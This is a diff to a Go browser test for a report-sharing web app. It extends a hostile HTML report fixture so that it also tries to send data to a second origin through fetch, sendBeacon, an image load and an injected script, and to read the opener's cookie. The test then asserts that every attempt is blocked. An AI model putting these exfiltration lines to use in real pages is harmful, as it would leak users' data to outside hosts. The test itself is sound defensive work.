@@ -9,6 +9,7 @@ import (
 	"net/url"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -33,6 +34,11 @@ const hostileReport = `<!doctype html><html lang="en"><title>Hostile</title><mai
   await grab("api", APP + "/api/v1/reports");
   await grab("inbox", APP + "/inbox");
   await grab("data", DASH + "/_data/metrics");
+  await grab("exfil", EXFIL + "/fetch");
+  try { navigator.sendBeacon(EXFIL + "/beacon", "x"); } catch (e) {}
+  new Image().src = EXFIL + "/image";
+  const s = document.createElement("script"); s.src = EXFIL + "/script"; document.head.appendChild(s);
+  await new Promise(r => setTimeout(r, 300));
   try { out.opener = String(window.opener && window.opener.document.cookie); } catch (e) { out.opener = "blocked"; }
   document.getElementById("out").textContent = JSON.stringify(out);
 })();
@@ -116,7 +122,15 @@ func TestBrowserReadingReports(t *testing.T) {
 	assert.Contains(t, mia.Text("#kpis"), "4,711")
 	assert.True(t, strings.HasPrefix(mia.Location(), dashOrigin), mia.Location())
 
-	hostile := strings.NewReplacer("APP", fmt.Sprintf("%q", apiURL), "DASH", fmt.Sprintf("%q", dashOrigin)).Replace(hostileReport)
+	// Another origin the hostile report tries to send what it read to.
+	var exfiltrated atomic.Int32
+	exfil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		exfiltrated.Add(1)
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+	}))
+	defer exfil.Close()
+	hostile := strings.NewReplacer("APP", fmt.Sprintf("%q", apiURL), "DASH", fmt.Sprintf("%q", dashOrigin),
+		"EXFIL", fmt.Sprintf("%q", exfil.URL)).Replace(hostileReport)
 	var hostileRep struct {
 		ID, URL string
 		Version struct{ Status string }
@@ -135,6 +149,8 @@ func TestBrowserReadingReports(t *testing.T) {
 	assert.Equal(t, "blocked", got["api"], "the app's API cannot be read from a report")
 	assert.Equal(t, "blocked", got["inbox"], "the app's pages cannot be read from a report")
 	assert.Equal(t, "blocked", got["data"], "another report's dataset cannot be read")
+	assert.Equal(t, "blocked", got["exfil"], "a report cannot fetch another origin")
+	assert.Zero(t, exfiltrated.Load(), "nothing the report tried (fetch, beacon, image, script) reached another origin")
 
 	// Un-sharing takes effect on the next load.
 	unshare, _ := http.NewRequest(http.MethodDelete, apiURL+"/api/v1/reports/"+dash.ID+"/share", strings.NewReader(`{"audience":["Operations"]}`))
